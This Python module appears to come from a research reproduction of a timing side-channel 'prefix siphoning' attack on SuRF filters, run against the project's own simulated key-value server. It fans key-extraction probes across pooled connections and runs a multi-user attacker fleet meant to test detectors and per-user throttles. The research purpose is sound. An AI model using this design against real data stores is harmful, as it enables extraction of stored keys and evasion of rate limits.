"""Concurrent breadth-first attack driver over pooled wire connections.

The paper's section 9 scheduler exists so many candidate prefixes can be
probed *concurrently*: a remote attacker with N connections keeps them all
full, paying the per-round cache-eviction wait once for the whole breadth
of the search.  This module fans the existing attack machinery out across
a :class:`~repro.server.client.ConnectionPool` while keeping the merged
results identical to the serial in-process attack:

* **Timing-classified stages** (FindFPK, IdPrefix) shard each breadth-
  first batch across the pool and flag every shard ``FLAG_ORDERED``: the
  server's :class:`~repro.server.aio.AsyncOrderedGate` executes the shards in
  shard order, so the one simulated timeline — clock charges, RNG draws,
  page-cache evolution — is *exactly* the serial batch's.  Wall-clock
  parallelism comes from overlapping the transport work (framing, socket
  I/O, response decoding) that a real network attacker pipelines.
* **Extension** (step 3) needs no ordering at all: probe outcomes are
  response *statuses*, pure functions of the key, so whole prefixes run
  concurrently on separate connections and chunked batch probes replace
  per-key round trips.  The merge applies the serial loop's dedupe in the
  serial loop's order, so the extracted key set is identical.
"""

from __future__ import annotations

import os
import queue
import threading
import time
from dataclasses import dataclass
from typing import List, Optional, Sequence

from repro.common.errors import ConfigError
from repro.core.extension import extend_prefix
from repro.core.learning import LearningResult, learn_cutoff
from repro.core.oracle import QueryOracle
from repro.core.results import AttackResult, PrefixCandidate
from repro.core.template import AttackConfig, PrefixSiphoningAttack
from repro.server.client import ConnectionPool, RemoteBackground
from repro.server.protocol import OrderToken
from repro.system.responses import Status

#: User id of fleet member 0 (the canonical ``ATTACKER_USER``); member
#: ``i`` attacks as ``FLEET_BASE_USER + i``.
FLEET_BASE_USER = 666


class ParallelTimingOracle(QueryOracle):
    """Timing classification fanned out across pooled connections.

    Observationally equivalent to a serial
    :class:`~repro.core.oracle.TimingOracle` over the same served store:
    same per-key simulated response times, same verdicts, same number of
    counted queries.  ``wait_us`` defaults to the server-reported
    full-cache displacement time, like the serial oracle's default.
    """

    def __init__(self, pool: ConnectionPool, attacker_user: int,
                 cutoff_us: float, rounds: int = 4,
                 wait_us: Optional[float] = None,
                 batch_limit: int = 1024) -> None:
        super().__init__(pool.primary, attacker_user)
        if cutoff_us <= 0:
            raise ConfigError(f"cutoff must be positive, got {cutoff_us}")
        if rounds < 1:
            raise ConfigError(f"rounds must be at least 1, got {rounds}")
        if batch_limit < 1:
            raise ConfigError(f"batch limit must be positive, got {batch_limit}")
        self.pool = pool
        self.cutoff_us = cutoff_us
        self.rounds = rounds
        #: Largest GET_MANY frame the driver issues.  Bounding frames is
        #: what creates pipelining: a breadth-first batch streams as a
        #: sequence of ordered frames, and with N connections the next
        #: frames are already decoded and waiting at the server's gate
        #: while the current one executes.  A serial connection instead
        #: leaves the server idle during every client turnaround.
        self.batch_limit = batch_limit
        if wait_us is None:
            wait_us = RemoteBackground(pool.primary).eviction_wait_us()
        self.wait_us = wait_us
        # Ordered-stream identity: unique per oracle so several runs
        # against one server never collide in the gate.  Randomness here
        # is *not* part of the simulation (no seeded stream is perturbed).
        self._nonce = int.from_bytes(os.urandom(8), "big")
        self._next_seq = 0
        self._seq_lock = threading.Lock()

    # ------------------------------------------------------------ breadth-first

    def classify(self, keys: Sequence[bytes]) -> List[bool]:
        """Sharded ``rounds``-query averages against the cutoff.

        Each round splits the batch into one contiguous shard per
        connection, dispatches them concurrently, and lets the server's
        ordered gate execute them in shard order — the serial batch's
        execution order.  The eviction wait happens once per round, for
        the entire breadth of the batch (section 9).
        """
        totals = [0.0] * len(keys)
        for round_index in range(self.rounds):
            self.counter.charge(len(keys))
            timed = self._round(keys)
            for i, (_, elapsed) in enumerate(timed):
                totals[i] += elapsed
            if round_index + 1 < self.rounds:
                self.wait_for_eviction()
        return [total / self.rounds >= self.cutoff_us for total in totals]

    def wait_for_eviction(self) -> None:
        """One between-iteration cache-churn wait, server-side."""
        self.pool.primary.wait(self.wait_us)

    def _round(self, keys: Sequence[bytes]) -> List:
        """One query per key, streamed as bounded ordered frames.

        Frame ``k`` goes out on connection ``k mod N``; the server's gate
        admits frames in sequence order, so execution replays the serial
        key order while up to ``N`` frames are in flight.
        """
        shards = self._shard(keys)
        connections = len(self.pool)
        if len(shards) == 1 or connections == 1:
            merged: List = []
            for shard in shards:
                merged.extend(self.pool.primary.get_many_timed(
                    self.attacker_user, shard))
            return merged
        with self._seq_lock:
            tokens = []
            for _ in shards:
                tokens.append(OrderToken(self._nonce, self._next_seq))
                self._next_seq += 1
        results: List = [None] * len(shards)
        errors: List = []

        def fetch(connection_index: int) -> None:
            client = self.pool.client(connection_index)
            try:
                for k in range(connection_index, len(shards), connections):
                    results[k] = client.get_many_timed(
                        self.attacker_user, shards[k], order=tokens[k])
            except BaseException as exc:  # noqa: BLE001 — re-raised below
                errors.append(exc)

        threads = [threading.Thread(target=fetch, args=(i,), daemon=True)
                   for i in range(min(connections, len(shards)))]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        if errors:
            raise errors[0]
        merged = []
        for shard_result in results:
            merged.extend(shard_result)
        return merged

    def _shard(self, keys: Sequence[bytes]) -> List[Sequence[bytes]]:
        """Contiguous frames in key order, each at most ``batch_limit``.

        Small batches still split across the pool (one frame per
        connection) so every classification round pipelines.
        """
        connections = len(self.pool)
        if not keys:
            return [[]]
        per_shard = (len(keys) + connections - 1) // connections
        per_shard = max(1, min(per_shard, self.batch_limit))
        return [keys[i:i + per_shard]
                for i in range(0, len(keys), per_shard)]

    # ------------------------------------------------------------------ probes

    def prober_many(self, connection_index: int):
        """Batch ``keys -> [Status]`` prober bound to one connection.

        Step-3 extension runs these concurrently without ordering: the
        status of a probe is a pure function of the key.
        """
        client = self.pool.client(connection_index)
        user = self.attacker_user
        counter = self.counter

        def probe_many(keys: Sequence[bytes]) -> List[Status]:
            counter.charge(len(keys))
            return [response.status
                    for response in client.get_many(user, keys)]

        return probe_many


class ParallelPrefixSiphoningAttack(PrefixSiphoningAttack):
    """The attack template with step 3 fanned out across the pool.

    Steps 1-2 already parallelize inside :class:`ParallelTimingOracle`;
    this subclass additionally runs each surviving prefix's suffix-space
    search on its own connection with chunked batch probes, then merges
    with the serial loop's dedupe-in-order semantics, so a seeded parallel
    run extracts exactly the serial run's keys.
    """

    def __init__(self, oracle: ParallelTimingOracle, strategy,
                 config: AttackConfig, chunk_size: int = 256) -> None:
        super().__init__(oracle, strategy, config)
        if chunk_size < 1:
            raise ConfigError(f"chunk size must be positive, got {chunk_size}")
        self.chunk_size = chunk_size

    def _extend_all(self, kept: List[PrefixCandidate],
                    result: AttackResult) -> None:
        oracle: ParallelTimingOracle = self.oracle
        connections = len(oracle.pool)
        probers: "queue.Queue" = queue.Queue()
        for index in range(connections):
            probers.put(oracle.prober_many(index))
        extensions: List = [None] * len(kept)
        errors: List = []

        def extend_one(index: int, candidate: PrefixCandidate) -> None:
            probe_many = probers.get()
            try:
                constraint = self.strategy.hash_constraint_for(candidate)
                extensions[index] = extend_prefix(
                    oracle, candidate.prefix, self.config.key_width,
                    hash_constraint=constraint,
                    max_queries=self.config.max_extension_queries,
                    probe_many=probe_many, chunk_size=self.chunk_size,
                )
            except BaseException as exc:  # noqa: BLE001 — re-raised below
                errors.append(exc)
            finally:
                probers.put(probe_many)

        # A fixed crew of worker threads drains the candidate list; each
        # holds one connection's prober at a time.
        work: "queue.Queue" = queue.Queue()
        for item in enumerate(kept):
            work.put(item)

        def worker() -> None:
            while True:
                try:
                    index, candidate = work.get_nowait()
                except queue.Empty:
                    return
                extend_one(index, candidate)

        threads = [threading.Thread(target=worker, daemon=True)
                   for _ in range(min(connections, max(1, len(kept))))]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        if errors:
            raise errors[0]

        # Deterministic merge: the serial loop's bookkeeping, in the
        # serial loop's (longest-prefix-first) order.
        found_keys: set = set()
        for candidate, extension in zip(kept, extensions):
            self._record_extension(candidate, extension, found_keys, result)


@dataclass
class ParallelAttackOutcome:
    """One remote attack run: the attack result plus driver metadata."""

    result: AttackResult
    learning: LearningResult
    connections: int
    wall_seconds: float


@dataclass
class FleetMemberOutcome:
    """One fleet member's attack, as its own service user."""

    user: int
    result: AttackResult
    wall_seconds: float


@dataclass
class FleetOutcome:
    """An attacker fleet run: per-member results plus fleet totals."""

    members: List[FleetMemberOutcome]
    wall_seconds: float

    @property
    def total_queries(self) -> int:
        return sum(m.result.total_queries for m in self.members)


def run_attacker_fleet(dial, num_attackers: int, key_width: int,
                       filter_scheme, cutoff_us: float,
                       config: Optional[AttackConfig] = None,
                       seed: int = 0, rounds: int = 2,
                       wait_us: Optional[float] = None,
                       chunk_size: int = 64, batch_limit: int = 64
                       ) -> FleetOutcome:
    """Concurrent independent attackers, each its own user and connection.

    The defense-bench adversary: ``num_attackers`` clients run the full
    three-step attack simultaneously against one served store, each under
    a distinct user id (``FLEET_BASE_USER + i``) so per-client detector
    verdicts and per-user throttle escalation act on each member
    independently.  The learned cutoff is
    shared (learning is a quiet-server calibration; pass the value from
    :func:`~repro.core.learning.learn_cutoff`), and seeds differ per
    member so the fleet explores different candidate prefixes.

    ``dial`` is a zero-argument connection factory (e.g. a loopback
    transport's ``dial``); each member owns one connection for its
    lifetime, so fleet-wide concurrency is ``num_attackers`` connections.
    """
    from repro.core.surf_attack import SurfAttackStrategy

    if num_attackers < 1:
        raise ConfigError("fleet needs at least one attacker")
    started = time.perf_counter()
    members: List[Optional[FleetMemberOutcome]] = [None] * num_attackers
    errors: List[BaseException] = []

    def run_member(index: int) -> None:
        member_started = time.perf_counter()
        pool = ConnectionPool(dial, 1)
        try:
            oracle = ParallelTimingOracle(
                pool, FLEET_BASE_USER + index, cutoff_us=cutoff_us,
                rounds=rounds, wait_us=wait_us, batch_limit=batch_limit)
            strategy = SurfAttackStrategy(key_width, filter_scheme,
                                          seed=seed + index)
            attack = ParallelPrefixSiphoningAttack(
                oracle, strategy, config or AttackConfig(key_width=key_width),
                chunk_size=chunk_size)
            result = attack.run()
            members[index] = FleetMemberOutcome(
                user=FLEET_BASE_USER + index, result=result,
                wall_seconds=time.perf_counter() - member_started)
        except BaseException as exc:  # noqa: BLE001 — re-raised below
            errors.append(exc)
        finally:
            pool.close()

    threads = [threading.Thread(target=run_member, args=(i,), daemon=True)
               for i in range(num_attackers)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    if errors:
        raise errors[0]
    return FleetOutcome(members=[m for m in members if m is not None],
                        wall_seconds=time.perf_counter() - started)


def run_parallel_surf_attack(pool: ConnectionPool, attacker_user: int,
                             key_width: int, filter_scheme,
                             config: Optional[AttackConfig] = None,
                             seed: int = 0, rounds: int = 4,
                             learn_samples: int = 6_000,
                             wait_us: Optional[float] = None
                             ) -> ParallelAttackOutcome:
    """Full remote SuRF attack over a connection pool.

    Learning runs serially on the primary connection (it is a
    distribution-shaping phase, not a breadth-first one), then the
    three-step attack runs with sharded classification and fanned-out
    extension.  With the same seed, store, and parameters, the extracted
    key set equals the serial in-process attack's.
    """
    from repro.core.surf_attack import SurfAttackStrategy

    started = time.perf_counter()
    primary = pool.primary
    background = RemoteBackground(primary)
    learning = learn_cutoff(primary, attacker_user, key_width,
                            num_samples=learn_samples, seed=seed,
                            background=background)
    oracle = ParallelTimingOracle(pool, attacker_user,
                                  cutoff_us=learning.cutoff_us,
                                  rounds=rounds, wait_us=wait_us)
    strategy = SurfAttackStrategy(key_width, filter_scheme, seed=seed)
    attack = ParallelPrefixSiphoningAttack(
        oracle, strategy, config or AttackConfig(key_width=key_width))
    result = attack.run()
    return ParallelAttackOutcome(
        result=result, learning=learning, connections=len(pool),
        wall_seconds=time.perf_counter() - started,
    )
